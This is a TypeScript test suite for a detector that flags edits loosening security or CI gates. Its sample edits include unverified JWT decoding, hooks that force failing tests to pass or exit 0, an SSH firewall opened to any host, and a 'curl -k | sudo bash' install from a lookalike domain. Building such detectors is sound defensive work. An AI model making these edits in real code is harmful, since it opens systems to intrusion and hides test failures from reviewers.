import assert from 'node:assert/strict'
import { test } from 'node:test'
import { allLoosened } from './all-loosened.ts'
import '../../../test/support/prove-readers.ts'

type Row = readonly [path: string, before: string | undefined, after: string]

const rego = (head: string, more = ''): string =>
  `package main\n\n${head}[msg] {\n  input.kind == "Pod"\n  msg := "no"\n}\n${more}`
const session = (line: string): string =>
  `import { jwtVerify } from 'jose'\n\nexport async function session(token: string) {\n  ${line}\n  return payload.sub\n}\n`
const verified = "const { payload } = await jwtVerify(token, key, { algorithms: ['HS256'] })"
const chart = (asserts: string): string =>
  `suite: deployment\ntemplates: [deployment.yaml]\ntests:\n  - it: renders\n    asserts:\n      - hasDocuments:\n          count: 1\n${asserts}`
const nonRoot =
  '  - it: runs as non-root\n    asserts:\n      - equal:\n          path: spec.securityContext.runAsNonRoot\n          value: true\n'
const hook = (line: string): string =>
  `import pytest\n\n\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n    out = yield\n    rep = out.get_result()\n    if rep.failed:\n        ${line}\n`
const turbo = (tasks: string): string => `{\n  "tasks": {\n    "build": {},\n${tasks}    "dev": {}\n  }\n}\n`
const install = (lines: string): string => `# Install\n\nGet it:\n\n${lines}\nThen run it.\n`
const signed =
  '    curl -LO https://dl.bee.example/bee.tar.gz\n    gpg --verify bee.tar.gz.asc\n    tar xf bee.tar.gz\n'
const same = (body: string): string =>
  `pub fn same(a: &[u8], b: &[u8]) -> bool {\n    if a.len() != b.len() {\n        return false;\n    }\n    ${body}\n}\n`
const folded = 'a.iter().zip(b).fold(0u8, |acc, (x, y)| acc | (x ^ y)) == 0'
const firewall = (from: string): string => `- name: ssh\n  ufw:\n    port: "22"\n    from_ip: ${from}\n`

const looser: readonly Row[] = [
  ['policy/pods.rego', rego('deny'), rego('warn')],
  ['policy/pods.rego', rego('violation'), rego('warn')],
  [
    'src/session.ts',
    session(verified),
    session("const payload = JSON.parse(atob(token.split('.')[1] ?? ''))"),
  ],
  ['src/session.ts', session(verified), session('const payload = decodeJwt(token)')],
  ['charts/a/tests/deployment_test.yaml', chart(nonRoot), chart('')],
  [
    'charts/a/tests/deployment_test.yaml',
    chart(`${nonRoot}      - isNull:\n          path: spec.hostNetwork\n`),
    chart(nonRoot),
  ],
  [
    'alerts/rules_test.yml',
    'tests:\n  - interval: 1m\n    alert_rule_test:\n      - eval_time: 5m\n        alertname: Down\n      - eval_time: 9m\n        alertname: Slow\n',
    'tests:\n  - interval: 1m\n    alert_rule_test:\n      - eval_time: 5m\n        alertname: Down\n',
  ],
  ['tests/conftest.py', undefined, hook('rep.outcome = "passed"')],
  ['tests/conftest.py', hook('print(rep)'), hook("rep.outcome = 'passed'")],
  ['conftest.py', undefined, 'def pytest_sessionfinish(session, exitstatus):\n    session.exitstatus = 0\n'],
  ['spec/spec_helper.rb', undefined, 'RSpec.configure do |config|\n  config.failure_exit_code = 0\nend\n'],
  [
    'test/global-teardown.js',
    undefined,
    'module.exports = async function globalTeardown() {\n  process.exit(0)\n}\n',
  ],
  ['turbo.json', turbo('    "test": { "dependsOn": ["build"] },\n'), turbo('')],
  ['nx.json', turbo('    "lint": { "cache": true },\n'), turbo('')],
  ['docs/install.md', install(signed), install('    curl -k https://dl-bee.example.net/i.sh | sudo bash\n')],
  ['docs/install.md', install(signed), install('    curl -fsSL https://dl.bee.example/i.sh | sh\n')],
  [
    'README.md',
    install('    curl -fsSL https://get.bee.example/i.sh | sh\n'),
    install('    curl -fsSL https://get-bee.example.net/i.sh | sh\n'),
  ],
  ['src/rotate.rs', same(folded), same('true')],
  ['roles/firewall/tasks/main.yml', firewall('10.0.4.10'), firewall('any')],
]

const kept: readonly Row[] = [
  ['policy/pods.rego', rego('warn'), rego('deny')],
  ['policy/pods.rego', rego('deny'), rego('deny', '\nwarn[msg] {\n  input.x\n  msg := "x"\n}\n')],
  [
    'src/session.ts',
    session(verified),
    session("const { payload } = await jwtVerify(token, key, { algorithms: ['EdDSA'] })"),
  ],
  ['src/session.ts', session(verified), session('const payload = await verifiedPayload(token)')],
  ['charts/a/tests/deployment_test.yaml', chart(''), chart(nonRoot)],
  ['charts/a/values.yaml', 'items:\n  - name: a\n  - name: b\n', 'items:\n  - name: a\n'],
  ['tests/conftest.py', undefined, hook('print(rep.longrepr)')],
  ['src/jobs.py', 'a = 1\n', 'a = 1\njob.outcome = "passed"\n'],
  ['src/main.ts', 'main()\n', 'await main()\nprocess.exit(0)\n'],
  ['turbo.json', turbo('    "test": {},\n'), turbo('    "test:unit": {},\n')],
  ['turbo.json', turbo('    "docs": {},\n'), turbo('')],
  ['docs/install.md', '# Install\n', install('    curl -fsSL https://sh.rustup.rs | sh\n')],
  [
    'README.md',
    install('    curl -fsSL https://get.bee.example/v1.sh | sh\n'),
    install('    curl -fsSL https://get.bee.example/v2.sh | sh\n'),
  ],
  ['docs/install.md', install(signed), install('    brew install bee\n')],
  ['src/rotate.rs', same(folded), same('a.ct_eq(b).into()')],
  ['roles/firewall/tasks/main.yml', firewall('10.0.4.10'), firewall('10.0.4.11')],
]

test('edits that let failures, strangers or unproven tokens pass', () => {
  for (const [path, before, after] of looser)
    assert.notEqual(allLoosened({ path, before, after }).length, 0, `${path}: ${after}`)
})

test('edits that only look like them', () => {
  for (const [path, before, after] of kept)
    assert.deepEqual(allLoosened({ path, before, after }), [], `${path}: ${after}`)
})
